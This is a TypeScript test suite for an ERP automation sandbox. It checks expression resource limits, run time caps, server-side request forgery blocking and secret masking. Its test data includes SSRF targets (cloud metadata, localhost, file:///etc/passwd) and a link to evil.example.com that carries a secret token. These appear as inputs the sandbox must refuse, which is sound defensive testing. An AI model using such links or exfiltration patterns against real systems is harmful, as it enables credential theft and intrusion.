import { describe, expect, test } from "vitest";
import type { Row } from "../../common/erp.ts";
import { json, resultOf, ScriptedErp } from "./scripted-erp.ts";

/** An administrator's automation, and an ERP's answer, may be mistaken or hostile. */

const call = (more: Row = {}): Row => ({ type: "http", id: "call", method: "GET", path: "/x", ...more });
const texts = (expression: string, ...steps: Row[]): Row => ({ steps, output: [expression] });
const INPUT = { input: { document: "52998224725" } };

function run(content: Row, ...replies: Response[]) {
  return new ScriptedErp(...replies).run("list_pending_texts", content, INPUT);
}

const messageOf = ({ outcome }: { outcome: { kind: string } }) =>
  (outcome as { message?: string }).message ?? "";

describe("no expression takes more than its share", () => {
  const thousand = Array.from({ length: 10_000 }, (_, index) => index);

  test.each<[string, string]>([
    ["nested lists", "{{ steps.call.map(a, steps.call.filter(b, b == a).size()).size() }}"],
    [
      "nested lists behind an error that && swallows elsewhere",
      "{{ text(steps.call.exists(a, steps.call.exists(b, b + 1 == a && false) || false)) }}",
    ],
    ["a text that doubles", `{{ ${"json(".repeat(12)}steps.call.map(a, text(a))${")".repeat(12)} }}`],
    ["one text many times", "{{ steps.call.map(a, json(steps.call)).join() }}"],
    ["lists of lists", "{{ json(steps.call.map(a, steps.call)) }}"],
    ["a list grown", "{{ text((steps.call + steps.call).size()) }}"],
    [
      "comparing copies of the same",
      "{{ text(steps.call.map(a, steps.call) == steps.call.map(b, steps.call.map(c, c))) }}",
    ],
  ])("%s", async (_, expression) => {
    const startedAt = performance.now();
    const ended = await run(texts(expression, call()), json(thousand));
    expect(ended.outcome.kind).toBe("unreadable");
    expect(messageOf(ended)).toMatch(/trabalha demais|passa de|mais de/);
    expect(performance.now() - startedAt).toBeLessThan(10_000);
  });

  test("a list of more than 10,000 is not walked through", async () => {
    const ended = await run(texts("{{ text(steps.call.map(a, a).size()) }}", call()), json([...thousand, 1]));
    expect(messageOf(ended)).toContain("mais de 10000 itens");
  });

  test("a text grown step by step ends at a million characters", async () => {
    const grown = Array.from(
      { length: 12 },
      (_, index): Row => ({
        type: "list",
        id: `s${index}`,
        items: [
          index === 0
            ? "{{ input.document }}"
            : `{{ steps.s${index - 1}[0] + ${Array.from({ length: 6 }, () => `steps.s${index - 1}[0]`).join("+")} }}`,
        ],
      }),
    );
    expect(messageOf(await run(texts("{{ steps.s11[0] }}", ...grown)))).toContain("1000000 caracteres");
  });

  test("an answer nested beyond the stack ends the run and nothing else", async () => {
    const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
    const answer = () => new Response(deep, { headers: { "content-type": "application/json" } });
    for (const expression of [
      "{{ json(steps.call) }}",
      "{{ text(steps.call == steps.other) }}",
      "{{ steps.call }}",
    ]) {
      expect((await run(texts(expression, call(), call({ id: "other" })), answer())).outcome.kind).toBe(
        "unreadable",
      );
    }
    const stripped = await run(
      texts("x", call(), { type: "strip", id: "s", from: "{{ steps.call }}", fields: ["a"] }),
      answer(),
    );
    expect(stripped.outcome.kind).toBe("unreadable");
    const matched = await run(
      texts("x", call({ outcomes: [{ when: { text: "zzz" }, outcome: "ok" }] })),
      answer(),
    );
    expect(["ok", "unreadable"]).toContain(matched.outcome.kind);
  });

  test("a pattern that explodes does not exist: there are no regular expressions", async () => {
    const answer = json({ a: `${"a".repeat(50_000)}!` });
    const ended = await run(texts("{{ text(steps.call.a.contains('aaa!')) }}", call()), answer);
    expect(resultOf(ended)).toEqual(["true"]);
  });
});

describe("no run lasts for ever", () => {
  const many = (count: number, more: (index: number) => Row): Row[] =>
    Array.from({ length: count }, (_, index) => more(index));

  test("at most 25 calls", async () => {
    const erp = new ScriptedErp(json({}));
    const ended = await erp.run(
      "list_pending_texts",
      texts("x", ...many(30, (index) => call({ id: `c${index}` }))),
      INPUT,
    );
    expect(messageOf(ended)).toContain("25 chamadas");
    expect(erp.sent).toHaveLength(25);
  });

  test("polls count as calls, and their waiting as time", async () => {
    const poll = (id: string): Row => ({
      type: "poll",
      id,
      call: { method: "GET", path: "/" },
      until: "false",
      everyMs: 5_000,
      times: 20,
      continue: true,
    });
    const erp = new ScriptedErp(json({}));
    const startedAt = erp.now;
    const ended = await erp.run("list_pending_texts", texts("x", poll("a"), poll("b"), poll("c")), INPUT);
    expect(messageOf(ended)).toContain("60 segundos");
    expect(erp.now - startedAt).toBeLessThanOrEqual(60_000);
  });

  test("after 35 seconds no call begins, since one may take 25", async () => {
    const erp = new ScriptedErp(() => {
      erp.now += 20_000;
      return json({});
    });
    const ended = await erp.run(
      "list_pending_texts",
      texts("x", ...many(5, (index) => call({ id: `c${index}` }))),
      INPUT,
    );
    expect(messageOf(ended)).toContain("60 segundos");
    expect(erp.sent).toHaveLength(2);
  });

  test("an endless answer is not read to its end", async () => {
    const endless = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.enqueue(new Uint8Array(1_000_000)),
    });
    expect((await run(texts("x", call()), new Response(endless))).outcome).toMatchObject({
      kind: "unreadable",
      message: "ponte:too_large",
    });
  });

  test("an output of more than a million characters is none", async () => {
    const long = { a: "x".repeat(600_000), b: "y".repeat(600_000) };
    const ended = await run(
      { steps: [call()], output: ["{{ steps.call.a }}", "{{ steps.call.b }}"] },
      json(long),
    );
    expect(messageOf(ended)).toContain("passa de 1000000");
  });
});

describe("no call leads where it should not", () => {
  const link = (url: string): Row => ({
    steps: [{ type: "pdf", id: "file", from: "link", value: url }],
    output: "{{ steps.file }}",
  });
  const get = (url: string, ...replies: Response[]) => {
    const erp = new ScriptedErp(...replies);
    return erp
      .run("get_invoice_pdf", link(url), {
        input: { invoiceId: "1" },
        credentials: { token: "the-token-itself" },
      })
      .then((ended) => ({ erp, ended }));
  };

  test.each([
    "https://127.0.0.1/a.pdf",
    "https://localhost/a.pdf",
    "https://169.254.169.254/latest/meta-data",
    "https://[::1]/a.pdf",
    "https://0x7f000001/a.pdf",
    "https://10.0.0.5/a.pdf",
    "https://printer.local/a.pdf",
    "http://files.example.com/a.pdf",
    "https://user:pass@files.example.com/a.pdf",
    "file:///etc/passwd",
    "ftp://files.example.com/a.pdf",
    "javascript:alert(1)",
  ])("the link %s is not fetched", async (url) => {
    const { erp, ended } = await get(url, new Response("%PDF-"));
    expect(ended.outcome.kind).not.toBe("ok");
    expect(erp.sent).toEqual([]);
  });

  test.each([
    "https://192.168.0.1/a.pdf",
    "http://files.example.com/b.pdf",
    "//127.0.0.1/x",
    "\\\\10.0.0.1\\x",
  ])("a redirect to %s is not followed", async (location) => {
    const { erp, ended } = await get(
      "https://files.example.com/a.pdf",
      new Response("", { status: 302, headers: { location } }),
    );
    expect(ended.outcome.kind).not.toBe("ok");
    expect(erp.sent).toHaveLength(1);
  });

  test("a circle of redirects ends after three", async () => {
    const { erp, ended } = await get(
      "https://files.example.com/a.pdf",
      new Response("", { status: 302, headers: { location: "/a.pdf" } }),
    );
    expect(messageOf(ended)).toContain("mais de 3 vezes");
    expect(erp.sent).toHaveLength(4);
  });
});

describe("secrets stay where they are", () => {
  const credentials = { token: "the-token-itself" };

  test("no output, error or trace holds one, whatever the automation tries", async () => {
    const erp = new ScriptedErp((sent) =>
      json({ echo: sent.headers.get("authorization"), url: sent.url.href }),
    );
    const tries = [
      "{{ secrets.token }}",
      "x {{ secrets.token }}",
      "{{ json(secrets) }}",
      "{{ [secrets.token, 'a'].join('-') }}",
      "{{ text(steps.call) }}",
    ];
    for (const expression of tries) {
      const list = { type: "list", id: "list", items: [expression] };
      const query = { t: "{{ secrets.token }}" };
      const ended = await erp.run("list_pending_texts", texts("{{ steps.list[0] }}", call({ query }), list), {
        ...INPUT,
        credentials,
        settings: { auth: { type: "bearer", token: "{{ secrets.token }}" } },
      });
      expect(JSON.stringify(ended.trace)).not.toContain(credentials.token);
      if (expression.includes("steps.call")) continue;
      expect(JSON.stringify(ended)).not.toContain(credentials.token);
      expect(JSON.stringify(ended)).not.toContain("\uE000");
      // The record of all secrets is an empty one.
      expect(ended.outcome.kind).toBe(expression.includes("json(") ? "ok" : "unreadable");
    }
    expect(erp.sent.every(({ url }) => url.searchParams.get("t") === credentials.token)).toBe(true);
    expect(JSON.stringify(erp.exchanges)).not.toContain(credentials.token);
  });

  test.each([
    "base64(secrets.token)",
    "substring(secrets.token, 0, 3)",
    "split(secrets.token, '')",
    "upper(secrets.token)",
    "secrets.token.contains('a')",
  ])("%s is refused: a secret is sent whole or not at all", async (expression) => {
    const list = { type: "list", id: "list", items: [`{{ text(${expression}) }}`] };
    const ended = await new ScriptedErp(json({})).run("list_pending_texts", texts("x", list), {
      ...INPUT,
      credentials,
    });
    expect(messageOf(ended)).toContain("um segredo só pode ser enviado inteiro");
  });

  const named = { type: "list", id: "named", items: ["{{ secrets.token }}"] };
  const message = "{{ steps.named[0] }}";
  const outcomes = [{ when: { status: 200 }, outcome: "refused", message }];
  test.each<[string, Row[]]>([
    ["a rule", [call({ outcomes })]],
    [
      "what was not found",
      [{ type: "find", id: "f", from: [], where: "true", otherwise: "not_found", message }],
    ],
    ["a stop", [{ type: "stop", id: "s", outcome: "refused", message }]],
    [
      "a value that does not fit",
      [{ type: "map", id: "m", from: {}, fields: { a: { value: message, as: "money" } } }],
    ],
  ])("the words of %s show a mask", async (_, steps) => {
    const erp = new ScriptedErp(json({}));
    const ended = await erp.run("list_pending_texts", texts("x", named, ...steps), { ...INPUT, credentials });
    expect(messageOf(ended)).toContain("•••");
    expect(JSON.stringify(ended)).not.toContain("\uE000");
  });

  test("a link takes none along, and nobody outside can write the sign that stands for one", async () => {
    const erp = new ScriptedErp(json({}));
    const link = {
      steps: [
        { type: "pdf", id: "file", from: "link", value: "https://evil.example.com/?t={{ secrets.token }}" },
      ],
      output: {},
    };
    const ended = await erp.run("get_invoice_pdf", link, { input: { invoiceId: "1" }, credentials });
    expect(ended.outcome.kind).toBe("unreadable");
    expect(erp.sent).toEqual([]);
    const notes = call({ method: "POST", effect: "read", json: { notes: "{{ input.document }}" } });
    await erp.run("list_pending_texts", texts("x", notes), {
      input: { document: "\uE000:token\uE001" },
      credentials,
    });
    expect(erp.sent[0]?.text).not.toContain(credentials.token);
  });
});

test.each<[string, unknown, string]>([
  ["a number for a text", [5], "0 deve ser um texto"],
  ["a record for the list", { a: 1 }, "deve ser uma lista"],
])("a result that does not fit is told in Portuguese: %s", async (_, output, words) => {
  const ended = await run({ steps: [], output: output as Row });
  expect(messageOf(ended)).toBe(`Automação, resultado: não tem a forma que a função responde: ${words}`);
});
